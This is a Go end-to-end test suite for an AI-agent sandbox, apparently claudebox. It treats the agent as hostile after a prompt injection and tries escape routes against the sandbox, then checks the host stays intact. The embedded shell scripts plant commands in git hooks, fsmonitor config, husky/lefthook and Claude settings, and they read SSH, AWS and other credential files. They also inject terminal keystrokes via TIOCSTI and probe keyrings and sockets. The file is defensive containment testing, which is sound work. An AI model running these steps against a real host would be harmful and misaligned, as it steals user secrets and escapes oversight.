package escape

// The escape suite: the threat model in one place. The agent inside is
// assumed hostile (a prompt injection took it over). Each test attacks the
// real sandbox as an unprivileged user and checks that
//   (a) it cannot read secrets,
//   (b) nothing it writes will run later on the host, outside the sandbox,
//   (c) it cannot break out through the kernel or the terminal,
// and that every targeted host file is byte-identical afterwards.

import (
	"encoding/base64"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/claudebox/claudebox/e2e/harness"

	"golang.org/x/sys/unix"

	"github.com/claudebox/claudebox/instance"
	"github.com/claudebox/claudebox/paths"
)

// attackScript tries every way to change each path given as an argument:
// write, append, create, rename over, delete, replace by a symlink, write
// inside (for directories), and rename the directory holding it away to
// build a new one in its place. Errors are the expected outcome and go
// nowhere; the host's files are the verdict.
const attackScript = `
for p in "$@"; do
	d=$(dirname "$p")
	echo evil > "$p"
	echo evil >> "$p"
	echo evil > "$d/.evil-$$" && mv -f "$d/.evil-$$" "$p"
	rm -rf "$p"
	ln -sfn /tmp/evil "$p"
	mkdir -p "$p" && echo evil > "$p/evil"
	if mv "$d" "$d.moved"; then mkdir -p "$d" && echo evil > "$p"; fi
done 2>/dev/null
echo attacked
`

// TestEscapeProtectedPaths attacks everything in the project and its git
// directories that git, a shell, an editor, direnv or Claude Code on the
// host would run or obey: existing files and directories, and paths that do
// not exist yet, from the main checkout and from a linked worktree.
func TestEscapeProtectedPaths(t *testing.T) {
	h := harness.NewHost(t)
	repo := filepath.Join(h.Home, "code", "repo")
	h.GitRepo(repo)
	// A submodule, hooks in core.hooksPath, and Claude Code and editor
	// settings that exist; the rest of the protected names do not.
	lib := filepath.Join(h.Home, "code", "lib")
	h.GitRepo(lib)
	h.Run(repo, nil, "git", "-c", "protocol.file.allow=always", "submodule", "add", "-q", lib, "lib")
	h.Write(filepath.Join(repo, ".githooks", "pre-commit"), "#!/bin/sh\nexit 0\n")
	h.Run(repo, nil, "git", "config", "core.hooksPath", ".githooks")
	h.Write(filepath.Join(repo, ".gitconfig-team"), "[alias]\n\tst = status\n")
	h.Run(repo, nil, "git", "config", "include.path", "../.gitconfig-team")
	h.Write(filepath.Join(repo, ".claude", "settings.json"), `{"hooks":{}}`+"\n")
	h.Write(filepath.Join(repo, ".vscode", "tasks.json"), "{}\n")
	h.Write(filepath.Join(repo, ".envrc"), "export A=1\n")
	wt := filepath.Join(h.Home, "code", "repo-wt")
	h.Run(repo, nil, "git", "worktree", "add", "-q", wt)
	h.Chown()

	common := filepath.Join(repo, ".git")
	targets := []string{
		filepath.Join(common, "config"),
		filepath.Join(common, "hooks"),
		filepath.Join(common, "hooks", "pre-commit"),
		filepath.Join(common, "worktrees", "repo-wt", "commondir"),
		filepath.Join(common, "worktrees", "repo-wt", "config.worktree"),
		filepath.Join(common, "modules", "lib", "config"),
		filepath.Join(common, "modules", "lib", "hooks", "post-checkout"),
		filepath.Join(repo, "lib", ".git"),
		filepath.Join(repo, ".githooks", "pre-commit"),
		filepath.Join(repo, ".gitconfig-team"),
		filepath.Join(wt, ".git"),
	}
	for _, name := range []string{
		".gitmodules", ".gitconfig", ".bashrc", ".bash_profile", ".zshrc", ".zprofile", ".profile",
		".ripgreprc", ".envrc", ".pre-commit-config.yaml", ".mcp.json", ".vscode", ".vscode/tasks.json",
		".idea", ".idea/workspace.xml", ".claude/commands", ".claude/commands/x.md", ".claude/agents",
		".claude/settings.json", ".claude/settings.local.json",
	} {
		targets = append(targets, filepath.Join(repo, name), filepath.Join(wt, name))
	}
	before := harness.Snapshots(targets)

	for _, dir := range []string{repo, wt} {
		out := h.Run(dir, nil, "claudebox", append([]string{"--shell", "-c", attackScript, "attack"}, targets...)...)
		if !strings.Contains(out, "attacked") {
			t.Fatalf("the attack did not run in %s: %s", dir, out)
		}
	}
	harness.NoPlaceholders(t, filepath.Dir(repo))
	harness.CompareSnapshots(t, before)

	// Git still works inside, and Claude Code's own save of a project
	// permission rule succeeds, into the session's private copy.
	out := h.Inside(repo, nil, `
		git status --short >/dev/null && echo ok git-status
		git -c user.name=t -c user.email=t@e commit -q --allow-empty -m inside && echo ok git-commit
		echo '{"permissions":{"allow":["Bash(ls:*)"]}}' > .claude/settings.local.json && echo ok settings-saved
		grep -q Bash .claude/settings.local.json && echo ok settings-read-back
	`)
	for _, want := range []string{"ok git-status", "ok git-commit", "ok settings-saved", "ok settings-read-back"} {
		if !strings.Contains(out, want) {
			t.Errorf("inside: missing %q in:\n%s", want, out)
		}
	}
	harness.NoPlaceholders(t, filepath.Dir(repo))
	if s := harness.Snapshot(filepath.Join(repo, ".claude", "settings.local.json")); s != "absent" {
		t.Errorf("the private copy of .claude/settings.local.json reached the host: %s", s)
	}
}

// TestEscapeClaudeConfig attacks the real ~/.claude, whose settings hooks,
// plugins, agents and scripts the host's claude runs or obeys, and the MCP
// servers of ~/.claude.json. Nothing in either may change.
func TestEscapeClaudeConfig(t *testing.T) {
	h := harness.NewHost(t)
	claudeDir := filepath.Join(h.Home, ".claude")
	h.Write(filepath.Join(claudeDir, "settings.json"), `{"statusLine":{"type":"command","command":"~/.claude/statusline.sh"}}`+"\n")
	h.Write(filepath.Join(claudeDir, "CLAUDE.md"), "be careful\n")
	h.Write(filepath.Join(claudeDir, "statusline.sh"), "#!/bin/sh\necho ok\n")
	h.Write(filepath.Join(claudeDir, "hooks", "guard.sh"), "#!/bin/sh\nexit 0\n")
	h.Write(filepath.Join(claudeDir, "plugins", "installed_plugins.json"), "{}\n")
	h.Write(filepath.Join(claudeDir, "skills", "x", "SKILL.md"), "skill\n")
	h.Write(filepath.Join(h.Home, ".claude.json"), `{"mcpServers":{}}`+"\n")
	proj := filepath.Join(h.Home, "code", "p")
	h.Write(filepath.Join(proj, "README"), "p\n")
	before := harness.Snapshots([]string{claudeDir, filepath.Join(h.Home, ".claude.json")})

	var targets []string
	for _, name := range []string{
		"settings.json", "settings.local.json", "CLAUDE.md", "statusline.sh", "hooks", "hooks/guard.sh",
		"plugins", "plugins/installed_plugins.json", "skills/x/SKILL.md", "agents", "agents/evil.md",
		"commands", "output-styles", "daemon.json", "shell-snapshots/snapshot-bash-1.sh",
	} {
		targets = append(targets, filepath.Join(claudeDir, name))
	}
	out := h.Run(proj, nil, "claudebox", append([]string{"--shell", "-c", attackScript + `
		echo '{"mcpServers":{"evil":{"command":"/tmp/evil"}}}' > ~/.claude.json
		mv ~/.claude ~/.claude.moved && mkdir ~/.claude && echo evil > ~/.claude/settings.json
		true
	`, "attack"}, targets...)...)
	if !strings.Contains(out, "attacked") {
		t.Fatalf("the attack did not run: %s", out)
	}
	harness.CompareSnapshots(t, before)
	// The configuration is there to use inside, read-only.
	out = h.Inside(proj, nil, `
		grep -q statusline ~/.claude/settings.json && echo ok settings-visible
		test -f ~/.claude/statusline.sh && echo ok script-visible
		test -f ~/.claude/skills/x/SKILL.md && echo ok skills-visible
	`)
	for _, want := range []string{"ok settings-visible", "ok script-visible", "ok skills-visible"} {
		if !strings.Contains(out, want) {
			t.Errorf("inside: missing %q in:\n%s", want, out)
		}
	}
}

// TestEscapeKernel tries the kernel's doors: host processes, nested user
// namespaces to remount the read-only binds, umount, a setuid binary, and
// descriptors inherited from the launch.
func TestEscapeKernel(t *testing.T) {
	h := harness.NewHost(t)
	proj := filepath.Join(h.Home, "code", "k")
	h.Write(filepath.Join(proj, "README"), "k\n")
	// A setuid-root program that prints its effective uid: outside the
	// sandbox it runs as root, which proves it elevates at all.
	self, _ := os.Executable()
	euid := filepath.Join(proj, "euid")
	h.CopyFile(self, euid, 0o755)
	if h.UID >= 0 {
		os.Chown(euid, 0, 0)
		os.Chmod(euid, 0o755|os.ModeSetuid)
		if out := strings.TrimSpace(h.Run(proj, nil, euid)); out != "0" {
			t.Fatalf("the setuid control did not elevate outside the sandbox: euid %s", out)
		}
	}
	// A host process of the same user, to find and signal.
	sleeper := h.Command(proj, nil, "sleep", "300")
	if err := sleeper.Start(); err != nil {
		t.Fatal(err)
	}
	defer sleeper.Process.Kill()
	pid := strconv.Itoa(sleeper.Process.Pid)

	out := h.Run(proj, []string{"HOST_PID=" + pid}, "claudebox", "--env", "HOST_PID", "--shell", "-c", `
		check() { if eval "$2" >/dev/null 2>&1; then echo "ok $1"; else echo "FAIL $1"; fi; }
		check host-pid-invisible '! test -e /proc/$HOST_PID'
		check host-kill-fails '! kill -0 $HOST_PID'
		check few-processes 'test $(ls /proc | grep -c "^[0-9]") -lt 10'
		check no-userns '! unshare -Ur true'
		check no-userns-mount '! unshare -Urm sh -c "mount -o remount,rw /usr"'
		check umount-fails '! umount /usr'
		check remount-fails '! mount -o remount,rw /usr'
		check usr-still-readonly '! touch /usr/evil'
		check no-new-privs 'grep -q "^NoNewPrivs:[[:space:]]*1" /proc/self/status'
		check setuid-no-root 'test "$(./euid)" = "$(id -u)"'
		check no-dir-fds 'for fd in /proc/$$/fd/*; do test -d "$fd" && exit 1; done; true'
		check fds-harmless 'for fd in /proc/$$/fd/*; do case "$(readlink $fd)" in /dev/*|pipe:*|socket:*|/proc/*|"$(readlink /proc/self/ns/user)") ;; *) exit 1;; esac; done'
	`)
	if strings.Contains(out, "FAIL") || !strings.Contains(out, "ok fds-harmless") {
		t.Fatalf("inside the sandbox:\n%s", out)
	}
	if err := unix.Kill(sleeper.Process.Pid, 0); err != nil {
		t.Errorf("the host process died: %v", err)
	}
	if h.UID >= 0 && harness.Snapshot(euid) == "absent" {
		t.Error("the setuid control vanished")
	}
}

// TestEscapeKeyring: the kernel's keyrings are not namespaced, so a key
// the host session holds (a Kerberos KEYRING: cache) would be readable from
// inside, and the sandbox could plant keys for the host. The key syscalls
// are refused.
func TestEscapeKeyring(t *testing.T) {
	h := harness.NewHost(t)
	harness.RequireTool(t, "keyctl", "apt-get install keyutils")
	proj := filepath.Join(h.Home, "code", "keys")
	h.Write(filepath.Join(proj, "README"), "k\n")
	// A fresh session keyring holding a key, as a login session's would;
	// the control reads it on the host before the sandbox tries.
	out := h.Run(proj, nil, "keyctl", "session", "-", "sh", "-c", `
		id=$(keyctl add user claudebox-host HOST-KEY-c41d @s)
		echo "control $(keyctl print $id)"
		claudebox --shell -c "
			keyctl print $id && echo READ
			keyctl show @s | grep -q claudebox-host && echo LISTED
			keyctl add user claudebox-evil planted @s && echo ADDED
			keyctl request user claudebox-host && echo REQUESTED
			echo inside-done" 2>&1
		keyctl search @s user claudebox-evil >/dev/null 2>&1 && echo PLANTED
		true`)
	if !strings.Contains(out, "control HOST-KEY-c41d") {
		t.Fatalf("control: the host session cannot read its own key:\n%s", out)
	}
	_, inside, _ := strings.Cut(out, "\n")
	if !strings.Contains(out, "inside-done") {
		t.Fatalf("the sandbox did not run:\n%s", out)
	}
	for _, bad := range []string{"HOST-KEY-c41d", "READ", "LISTED", "ADDED", "REQUESTED", "PLANTED"} {
		if strings.Contains(inside, bad) {
			t.Errorf("the sandbox reached the keyring (%s):\n%s", bad, out)
		}
	}
}

// TestEscapeSecrets reads every usual secret in $HOME and another project's
// instance, and checks that identity tokens in the environment stay out of
// the sandbox, its argv and --dry-run, unless named with --env.
func TestEscapeSecrets(t *testing.T) {
	h := harness.NewHost(t)
	secrets := []string{
		".ssh/id_ed25519", ".aws/credentials", ".gnupg/private-keys-v1.d/key", ".config/gh/hosts.yml",
		".netrc", ".docker/config.json", ".kube/config", ".config/gcloud/credentials.db",
	}
	for _, s := range secrets {
		h.Write(filepath.Join(h.Home, s), "SECRET-"+s+"\n")
	}
	other := filepath.Join(h.Home, "code", "other")
	h.Write(filepath.Join(other, "README"), "other\n")
	h.Run(other, nil, "claudebox", "--shell", "-c", "echo 'other project prompt' > ~/.claude/history.jsonl")
	otherInstance := instance.Dir(filepath.Join(h.Home, ".claudebox"), other)
	proj := filepath.Join(h.Home, "code", "p")
	h.Write(filepath.Join(proj, "README"), "p\n")

	tokens := []string{
		"GITHUB_TOKEN=ghp_secret_github", "GH_TOKEN=gho_secret_gh", "GH_ENTERPRISE_TOKEN=ghe_secret",
		"AWS_SECRET_ACCESS_KEY=aws_secret", "AWS_ACCESS_KEY_ID=AKIASECRET", "ANTHROPIC_API_KEY=sk-ant-secret",
	}
	script := `
		for p in "$@"; do
			if cat "$p" 2>/dev/null || test -e "$p"; then echo "LE""AK readable $p"; fi
		done
		cat ~/.claude/history.jsonl
		env
		cat /proc/*/cmdline 2>/dev/null | tr '\0' ' '
		grep -rl 'SECR[E]T-' / --exclude-dir=proc --exclude-dir=sys --exclude-dir=usr 2>/dev/null | sed 's/^/FO""UND /'
		echo "DO""NE"
	`
	var paths []string
	for _, s := range secrets {
		paths = append(paths, filepath.Join(h.Home, s))
	}
	paths = append(paths, otherInstance, filepath.Join(h.Home, ".claudebox"))
	out := h.Run(proj, tokens, "claudebox", append([]string{"--shell", "-c", script, "read"}, paths...)...)
	if !strings.Contains(out, "DONE") {
		t.Fatalf("the script did not finish:\n%s", out)
	}
	for _, leak := range []string{"LEAK", "FOUND", "SECRET-", "other project prompt", "ghp_secret_github", "gho_secret_gh", "ghe_secret", "aws_secret", "AKIASECRET", "sk-ant-secret"} {
		if strings.Contains(out, leak) {
			t.Errorf("%q leaked into the sandbox:\n%s", leak, out)
		}
	}
	// Claude's own key stays with the proxy: the sandbox holds a phantom.
	if !strings.Contains(out, "ANTHROPIC_API_KEY=sk-ant-api03-") {
		t.Errorf("ANTHROPIC_API_KEY should be a phantom key:\n%s", out)
	}
	dry := h.Run(proj, tokens, "claudebox", "--dry-run", "--env", "GITHUB_TOKEN")
	for _, leak := range []string{"ghp_secret_github", "sk-ant-secret", "aws_secret"} {
		if strings.Contains(dry, leak) {
			t.Errorf("--dry-run prints the value of a secret (%s):\n%s", leak, dry)
		}
	}
	// Naming a token is the explicit opt-in.
	if out := h.Run(proj, tokens, "claudebox", "--env", "GITHUB_TOKEN", "--shell", "-c", `echo "token=$GITHUB_TOKEN gh=$GH_TOKEN"`); strings.TrimSpace(out) != "token=ghp_secret_github gh=" {
		t.Errorf("--env GITHUB_TOKEN inside: %q", out)
	}
}

// TestEscapeWritesStayInside: what the sandbox writes outside the project
// (its /tmp, its $HOME and the directories there the host's tools read)
// is not on the host after the session.
func TestEscapeWritesStayInside(t *testing.T) {
	h := harness.NewHost(t)
	proj := filepath.Join(h.Home, "code", "p")
	h.Write(filepath.Join(proj, "README"), "p\n")
	name := "claudebox-escape-" + strconv.Itoa(os.Getpid())
	var targets []string
	for _, dir := range []string{"/tmp", "/var/tmp", "/dev/shm", h.Home, filepath.Join(h.Home, ".config"), filepath.Join(h.Home, ".local", "bin"), filepath.Join(h.Home, "code")} {
		targets = append(targets, filepath.Join(dir, name))
	}
	t.Cleanup(func() {
		for _, p := range targets {
			os.Remove(p)
		}
	})
	out := h.Run(proj, nil, "claudebox", append([]string{"--shell", "-c", `
		for p in "$@"; do mkdir -p "$(dirname "$p")" 2>/dev/null; echo planted > "$p" 2>/dev/null && echo "WROTE $p"; done
		echo "DO""NE"`, "write"}, targets...)...)
	if !strings.Contains(out, "DONE") || !strings.Contains(out, "WROTE /tmp/"+name) {
		t.Fatalf("the sandbox could not write its own /tmp:\n%s", out)
	}
	for _, p := range targets {
		if _, err := os.Lstat(p); err == nil {
			t.Errorf("what the sandbox wrote at %s is on the host", p)
		}
	}
}

// TestEscapeTerminal pushes keystrokes into the terminal from inside a
// tmux-driven session (TIOCSTI and TIOCLINUX, CVE-2017-5226), and checks
// that the filter blocking them leaves the terminal working: a resize still
// reaches the sandbox's foreground process and Claude Code's screen.
func TestEscapeTerminal(t *testing.T) {
	h := harness.NewHost(t)
	proj := filepath.Join(h.Home, "code", "tty")
	h.Write(filepath.Join(proj, "README"), "tty\n")
	tmux := h.Tmux(proj)
	// The command prints its verdicts from pieces, so that its own echo on
	// the screen does not match them.
	const inject = `perl -e '$c = "X"; $i = "INJECT-"; print ioctl(STDIN, 0x5412, $c) ? "${i}WORKED\n" : "${i}BLOCKED $!\n"; ioctl(STDIN, 0x541C, $c) or print "LINUX-", "BLOCKED $!\n"; print "DO", "NE\n"'`

	// Control, outside the sandbox: where the kernel still allows TIOCSTI,
	// the same command does inject, so the check inside can fail.
	tmux("new-session", "-d", "-s", "host", "-x", "120", "-y", "30", "bash --norc --noprofile")
	tmux("send-keys", "-t", "host", inject, "Enter")
	host := harness.WaitScreen(t, harness.TmuxTarget(tmux, "host"), func(s string) bool {
		return strings.Contains(s, "INJECT-WORKED") || strings.Contains(s, "INJECT-BLOCKED")
	}, "the control's result")
	if b, _ := os.ReadFile("/proc/sys/dev/tty/legacy_tiocsti"); strings.TrimSpace(string(b)) == "1" && !strings.Contains(host, "INJECT-WORKED") {
		t.Fatalf("control: TIOCSTI should work outside the sandbox here:\n%s", host)
	}

	tmux("new-session", "-d", "-s", "box", "-x", "120", "-y", "30", "claudebox --shell --norc --noprofile")
	tmux("send-keys", "-t", "box", "echo RE''ADY", "Enter")
	harness.WaitScreen(t, harness.TmuxTarget(tmux, "box"), func(s string) bool { return strings.Contains(s, "READY") }, "the sandbox's shell")
	tmux("send-keys", "-t", "box", inject, "Enter")
	screen := harness.WaitScreen(t, harness.TmuxTarget(tmux, "box"), func(s string) bool { return strings.Contains(s, "DONE") }, "the injection's result")
	if !strings.Contains(screen, "INJECT-BLOCKED Operation not permitted") || !strings.Contains(screen, "LINUX-BLOCKED Operation not permitted") {
		t.Fatalf("TIOCSTI/TIOCLINUX inside the sandbox:\n%s", screen)
	}
	// A resize reaches the sandbox's foreground process as SIGWINCH.
	// Not in the interactive shell itself: job control would give the loop's
	// sleep its own process group, the one the terminal signals.
	// Resized once the trap is set: before, SIGWINCH does nothing.
	tmux("send-keys", "-t", "box", `bash -c 'trap "echo WIN\"\"CH \$(stty size)" WINCH; echo TR""APPED; while :; do sleep 0.1; done'`, "Enter")
	harness.WaitScreen(t, harness.TmuxTarget(tmux, "box"), func(s string) bool { return strings.Contains(s, "TRAPPED") }, "the trap set")
	tmux("resize-window", "-t", "box", "-x", "100", "-y", "25")
	harness.WaitScreen(t, harness.TmuxTarget(tmux, "box"), func(s string) bool { return strings.Contains(s, "WINCH 25 100") }, "SIGWINCH inside the sandbox")
}

// TestEscapeTerminalClaudeResize checks the same with the real Claude Code
// TUI: after a resize its input box is redrawn at the new width.
func TestEscapeTerminalClaudeResize(t *testing.T) {
	h := harness.NewHost(t)
	harness.RequireClaude(t)
	api := harness.StartFakeAPI(t, "FAKE-REPLY")
	const key = "sk-ant-test-resize-key-0123456789"
	proj := filepath.Join(h.Home, "code", "resize")
	h.Write(filepath.Join(proj, "README"), "r\n")
	h.Onboarded(key, proj)
	tmux := h.Tmux(proj)
	launch := "env " + strings.Join(api.Env(key), " ") + " TERM=xterm-256color claudebox"
	tmux("new-session", "-d", "-x", "120", "-y", "40", launch)
	harness.WaitScreen(t, tmux, func(s string) bool { return longestRule(s) == 120 }, "Claude's input box at 120 columns")
	tmux("resize-window", "-x", "90", "-y", "30")
	harness.WaitScreen(t, tmux, func(s string) bool { return longestRule(s) == 90 }, "Claude's input box redrawn at 90 columns")
}

// longestRule is the length of the longest run of box-drawing ─ on a line.
func longestRule(screen string) int {
	best := 0
	for _, line := range strings.Split(screen, "\n") {
		run := 0
		for _, r := range line {
			if r == '─' {
				run++
				best = max(best, run)
			} else {
				run = 0
			}
		}
	}
	return best
}

// TestEscapeConcurrentSessions: a session that ends must not take the
// placeholders away from one still running in the same project.
func TestEscapeConcurrentSessions(t *testing.T) {
	h := harness.NewHost(t)
	proj := filepath.Join(h.Home, "code", "two")
	h.Write(filepath.Join(proj, "README"), "two\n")
	// The first runs until the second has ended: by files, not by time,
	// which a loaded machine outlasts.
	_, out, exited := harness.StartSession(t, h, proj, `touch started; until [ -e done ]; do sleep 0.05; done; if echo evil > .envrc 2>/dev/null; then echo CREATED; else echo BLOCKED; fi`)
	h.Inside(proj, nil, "true") // a second session starts and ends meanwhile
	if !instance.IsPlaceholder(filepath.Join(proj, ".envrc")) {
		t.Errorf("the .envrc placeholder was removed while a session still runs")
	}
	harness.TouchDone(t, proj)
	if err := <-exited; err != nil {
		t.Fatal(err)
	}
	if got := out.String(); !strings.Contains(got, "BLOCKED") || strings.Contains(got, "CREATED") {
		t.Errorf("the running session could create .envrc after the other ended: %s", got)
	}
	harness.NoPlaceholders(t, proj)
	if harness.Snapshot(filepath.Join(proj, ".envrc")) != "absent" {
		t.Errorf(".envrc on the host: %s", harness.Snapshot(filepath.Join(proj, ".envrc")))
	}
}

// TestEscapeNoNetwork: with --no-network the sandbox reaches nothing, not
// even a server on the host's loopback; without it, the host's network is
// shared (Claude needs its API).
func TestEscapeNoNetwork(t *testing.T) {
	h := harness.NewHost(t)
	api := harness.StartFakeAPI(t, "unused")
	port := api.URL[strings.LastIndex(api.URL, ":")+1:]
	proj := filepath.Join(h.Home, "code", "net")
	h.Write(filepath.Join(proj, "README"), "net\n")
	probe := fmt.Sprintf(`if exec 3<>/dev/tcp/127.0.0.1/%s; then echo CONNECTED; else echo UNREACHABLE; fi 2>/dev/null`, port)
	if out := strings.TrimSpace(h.Run(proj, nil, "claudebox", "--network=host", "--shell", "-c", probe)); out != "CONNECTED" {
		t.Fatalf("control: the shared network should reach the host's loopback: %s", out)
	}
	if out := strings.TrimSpace(h.Run(proj, nil, "claudebox", "--no-network", "--shell", "-c", probe)); out != "UNREACHABLE" {
		t.Errorf("--no-network reached the host's loopback: %s", out)
	}
}

// gitRedirectAttack is what a hostile agent does to git's redirects, run
// inside with the marker's path as $1: it builds a look-alike repository in
// the project whose config runs a command, and points every redirect git
// follows at it; it writes that command into the config and hooks of an
// embedded submodule and a nested repository. Errors are expected.
const gitRedirectAttack = `
m=$1
mkdir -p evil/objects evil/refs
echo 'ref: refs/heads/main' > evil/HEAD
printf '[core]\n\tfsmonitor = touch %s\n' "$m" > evil/config
for d in .git .git/modules/lib third_party/a/b/emb/.git ../nested/one/.git ../nested/a/two/.git; do
	test -d "$d" || continue
	printf '%s\n' "$PWD/evil" > "$d/commondir"
	printf '[core]\n\tfsmonitor = touch %s\n' "$m" >> "$d/config"
	printf '[core]\n\tfsmonitor = touch %s\n' "$m" > "$d/config.worktree"
	printf '* filter=x\n' > "$d/info/attributes"
	printf '#!/bin/sh\ntouch %s\n' "$m" > "$d/hooks/pre-commit" && chmod +x "$d/hooks/pre-commit"
done
printf '%s\n' "$PWD/sub/.git" > .git/worktrees/wt/gitdir
echo attacked
` + "\n"

// TestEscapeGitRedirects: the agent points commondir (of the repository,
// of a submodule's git dir), a worktree's gitdir and the config and hooks of
// an embedded submodule and of repositories in a folder of repositories at
// what runs a command. The host's git status, commit and git -C sub status
// afterwards, and during the session, run nothing, and the next launch uses
// the project's own instance.
func TestEscapeGitRedirects(t *testing.T) {
	h := harness.NewHost(t)
	code := filepath.Join(h.Home, "code")
	repo := filepath.Join(code, "repo")
	h.GitRepo(repo)
	lib := filepath.Join(code, "lib")
	h.GitRepo(lib)
	h.Run(repo, nil, "git", "-c", "protocol.file.allow=always", "submodule", "add", "-q", lib, "lib")
	// An embedded submodule: added from a clone already in the work tree,
	// it keeps its .git directory. It lies deeper than the probe looks for
	// nested repositories: .gitmodules names it.
	emb := filepath.Join(repo, "third_party", "a", "b", "emb")
	h.GitRepo(emb)
	h.Run(repo, nil, "git", "submodule", "add", "-q", "./third_party/a/b/emb", "third_party/a/b/emb")
	h.Run(repo, nil, "git", "-c", "user.name=t", "-c", "user.email=t@e", "commit", "-qm", "subs")
	h.Run(repo, nil, "git", "config", "extensions.worktreeConfig", "true")
	h.Run(repo, nil, "git", "worktree", "add", "-q", filepath.Join(code, "wt"))
	// A folder of repositories, the session started in it.
	nested := filepath.Join(h.Home, "nested")
	h.GitRepo(filepath.Join(nested, "one"))
	h.GitRepo(filepath.Join(nested, "a", "two"))
	marker := filepath.Join(h.Base, "marker")

	// While a session runs, the host's git works in every repository.
	session := h.Command(repo, nil, "claudebox", "--shell", "-c", "sleep 2")
	if err := session.Start(); err != nil {
		t.Fatal(err)
	}
	time.Sleep(time.Second)
	for _, dir := range []string{repo, filepath.Join(repo, "lib"), emb, filepath.Join(code, "wt")} {
		if out, err := h.Command(dir, nil, "git", "status", "--short").CombinedOutput(); err != nil {
			t.Errorf("host git status in %s during a session: %v\n%s", dir, err, out)
		}
	}
	session.Wait()

	for _, dir := range []string{repo, nested} {
		if out := h.Run(dir, nil, "claudebox", "--shell", "-c", gitRedirectAttack, "attack", marker); !strings.Contains(out, "attacked") {
			t.Fatalf("the attack did not run in %s: %s", dir, out)
		}
	}
	harness.NoPlaceholders(t, code)
	harness.NoPlaceholders(t, nested)
	commit := []string{"-c", "user.name=t", "-c", "user.email=t@e", "commit", "-q", "--allow-empty", "-m", "host"}
	for _, dir := range []string{repo, filepath.Join(repo, "lib"), emb, filepath.Join(code, "wt"), filepath.Join(nested, "one"), filepath.Join(nested, "a", "two")} {
		h.Run(dir, nil, "git", "status", "--short")
		h.Run(dir, nil, "git", commit...)
	}
	h.Run(repo, nil, "git", "-C", "lib", "status")
	h.Run(repo, nil, "git", "-C", "third_party/a/b/emb", "status")
	if paths.Exists(marker) {
		t.Fatal("the host's git ran what the sandbox planted")
	}
	for _, dir := range []string{repo, filepath.Join(code, "wt")} {
		if out := h.Inside(dir, nil, `cat ~/.claude/projects/project-root`); strings.TrimSpace(out) != repo {
			t.Errorf("the next launch in %s uses the instance of %q", dir, out)
		}
	}
}

// TestEscapeHookManagers: in a husky v9 project (core.hooksPath=.husky/_,
// whose stubs run .husky/<hook>) and a lefthook project (an installed hook
// running what lefthook.yml says), the agent cannot change what the host's
// git commit runs.
func TestEscapeHookManagers(t *testing.T) {
	h := harness.NewHost(t)
	marker := filepath.Join(h.Base, "marker")
	husky := filepath.Join(h.Home, "code", "husky")
	h.GitRepo(husky)
	// The stubs as husky 9 writes them.
	h.Write(filepath.Join(husky, ".husky", "_", "h"), "#!/usr/bin/env sh\nn=$(basename \"$0\")\ns=$(dirname \"$(dirname \"$0\")\")/$n\n[ ! -f \"$s\" ] && exit 0\nsh -e \"$s\" \"$@\"\n")
	h.Write(filepath.Join(husky, ".husky", "_", ".gitignore"), "*\n")
	for _, hook := range []string{"pre-commit", "post-commit", "commit-msg"} {
		h.Write(filepath.Join(husky, ".husky", "_", hook), "#!/usr/bin/env sh\n. \"$(dirname \"$0\")/h\"\n")
		os.Chmod(filepath.Join(husky, ".husky", "_", hook), 0o755)
	}
	h.Write(filepath.Join(husky, ".husky", "pre-commit"), "true\n")
	h.Run(husky, nil, "git", "config", "core.hooksPath", ".husky/_")

	lefthook := filepath.Join(h.Home, "code", "lefthook")
	h.GitRepo(lefthook)
	h.Write(filepath.Join(lefthook, "lefthook.yml"), "pre-commit:\n  commands:\n    lint:\n      run: true\n")
	h.Write(filepath.Join(lefthook, ".git", "hooks", "pre-commit"), "#!/bin/sh\nsed -n 's/^ *run: //p' lefthook.yml | sh\n")
	os.Chmod(filepath.Join(lefthook, ".git", "hooks", "pre-commit"), 0o755)
	h.Chown()

	attack := `
		m=$1
		echo "touch $m" >> .husky/pre-commit
		printf 'touch %s\n' "$m" > .husky/post-commit
		printf '#!/bin/sh\ntouch %s\n' "$m" > .husky/_/h
		mv .husky .husky.old && mkdir -p .husky/_ && printf 'touch %s\n' "$m" > .husky/pre-commit
		printf '      run: touch %s\n' "$m" >> lefthook.yml
		rm -f lefthook.yml; printf 'pre-commit:\n  commands:\n    x:\n      run: touch %s\n' "$m" > lefthook.yml
		echo attacked
	` + "\n"
	for _, dir := range []string{husky, lefthook} {
		if out := h.Run(dir, nil, "claudebox", "--shell", "-c", attack, "attack", marker); !strings.Contains(out, "attacked") {
			t.Fatalf("the attack did not run in %s: %s", dir, out)
		}
		harness.NoPlaceholders(t, dir)
		h.Run(dir, nil, "git", "-c", "user.name=t", "-c", "user.email=t@e", "commit", "-q", "--allow-empty", "-m", "host")
	}
	if paths.Exists(marker) {
		t.Fatal("the host's git commit ran what the sandbox wrote")
	}
}

// TestEscapeProcessGroup: kill(0, sig) inside signals the sandbox's own
// process group, not the one claudebox was started in.
func TestEscapeProcessGroup(t *testing.T) {
	h := harness.NewHost(t)
	proj := filepath.Join(h.Home, "code", "pgrp")
	h.Write(filepath.Join(proj, "README"), "p\n")
	// A process group of its own, holding a host process beside claudebox,
	// as a pipeline or a script's background job would.
	cmd := h.Command(proj, nil, "sh", "-c", `
		sleep 300 & host=$!
		claudebox --shell -c 'kill -TERM 0; kill -KILL 0'
		kill -0 $host && echo HOST-ALIVE
		kill $host`)
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	out, _ := cmd.CombinedOutput()
	if !strings.Contains(string(out), "HOST-ALIVE") {
		t.Errorf("kill 0 inside the sandbox reached the caller's process group:\n%s", out)
	}
}

// TestEscapeAbstractSocket: an abstract Unix socket of the host (X11's
// @/tmp/.X11-unix/X0, D-Bus) is unreachable though the network is shared,
// and reachable with --with-desktop-sockets; on the filtered network it
// does not exist.
func TestEscapeAbstractSocket(t *testing.T) {
	h := harness.NewHost(t)
	harness.RequireTool(t, "perl", "apt-get install perl")
	name := fmt.Sprintf("claudebox-e2e-x11-%d", os.Getpid())
	l, err := net.Listen("unix", "@"+name)
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			c.Close()
		}
	}()
	proj := filepath.Join(h.Home, "code", "x11")
	h.Write(filepath.Join(proj, "README"), "x\n")
	probe := fmt.Sprintf(`perl -MSocket -e 'socket(S, PF_UNIX, SOCK_STREAM, 0) or die; print connect(S, pack_sockaddr_un("\0%s")) ? "CONNECTED\n" : "REFUSED $!\n"'`, name)
